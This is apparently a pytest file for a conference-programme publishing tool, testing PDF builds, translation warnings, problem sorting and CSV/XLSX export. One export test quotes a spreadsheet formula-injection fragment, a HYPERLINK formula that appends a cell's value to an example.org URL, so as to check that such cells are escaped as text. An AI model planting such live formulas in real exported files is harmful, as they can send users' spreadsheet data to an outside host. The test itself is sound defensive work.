    assert "partners.csv" in files["brochure"] and "2027-06-tampere-annual-conference.xlsx" not in files["brochure"]
    built = run_cli("build", "--kind", "programme", "--lang", "en", "--variant", "screen", "--quiet", project=project)
    assert built.exit_code == 0, built.output
    text = flat_text(project / "output/en/programme-2027-06-tampere-annual-conference-screen.pdf")
    for fact in (
        "Thursday, 10 June 2027",
        "Parallel workshops, series A",
        "A1",
        "B6",
        "Ivana KOVAČEVIĆ",
        "The Tammerkoski rapids",
        "Meeting point: Tampere Hall main entrance",
    ):
        assert fact in text, fact


def test_a_missing_translation_is_a_warning_at_its_cell(project_copy):
    header, rows = edited({"F3": None})
    write_sheet(project_copy / "sources/agenda/warned.xlsx", header, rows)
    name_sheet(project_copy, VANTAA, "agenda", "agenda/warned.xlsx")
    result = run_cli("check", project=project_copy)
    strict = run_cli("check", "--strict", project=project_copy)
    assert result.exit_code == 0, result.output
    assert (
        "warning: sources/agenda/warned.xlsx:Programme!E3: title has no 'en' translation\n"
        "    fix: write the en text in a 'title_en' column, on this row" in result.output
    )
    assert strict.exit_code == 2


def test_problems_at_cells_and_at_no_place_sort_together():
    """A sheet's problems name a cell or no place at all: sorting them (as a build does before
    reporting) orders the whole file first, then lines, then cells, where an int and a str would not compare."""
    from publication.errors import CellRef, Problem
    from publication.publish import sorted_problems

    sheet, source = "sources/agenda/x.xlsx", "sources/workshops/x.yaml"
    problems = [
        Problem(sheet, CellRef("Programme!E3"), "title", "b"),
        Problem(source, 31, "agenda", "c"),
        Problem(sheet, None, "", "a"),
        Problem(source, 4, "title", "d"),
    ]
    assert [str(p) for p in sorted_problems(problems)] == [
        "sources/agenda/x.xlsx: a",
        "sources/agenda/x.xlsx:Programme!E3: title b",
        "sources/workshops/x.yaml:4: title d",
        "sources/workshops/x.yaml:31: agenda c",
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_texts_like_formulas_are_exported_as_text_and_read_back(project_copy, fmt):
    """OWASP's advice against CSV injection: a cell starting with =, +, -, @, tab or CR is written after
    an apostrophe in CSV, as a text cell in XLSX (never a live formula); reading it back gives the text."""
    with_formulas(project_copy)
    exported = run_cli("export-agenda", "2016-09-dresden", "--format", fmt, project=project_copy)
    assert exported.exit_code == 0, exported.output
    path = project_copy / f"sources/agenda/2016-09-dresden.{fmt}"
    if fmt == "csv":
        written = path.read_text(encoding="utf-8-sig")
        assert "'+33 1 43 99 70 00" in written and '"\'=HYPERLINK(""http://example.org/?""&A2' in written
    else:
        sheet = openpyxl.load_workbook(path)["Programme"]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value in FORMULAS.values()]
        assert len(cells) == 3 and {cell.data_type for cell in cells} == {"s"}
        with zipfile.ZipFile(path) as archive:
            assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    table = read_table(path, path.name)
    doc, problems = agenda_from_table(table)
    assert table.problems == [] and problems == []
    assert doc.data[0]["sessions"][0]["title"] == dict(zip(["fr", "en", "de"], FORMULAS.values(), strict=True))
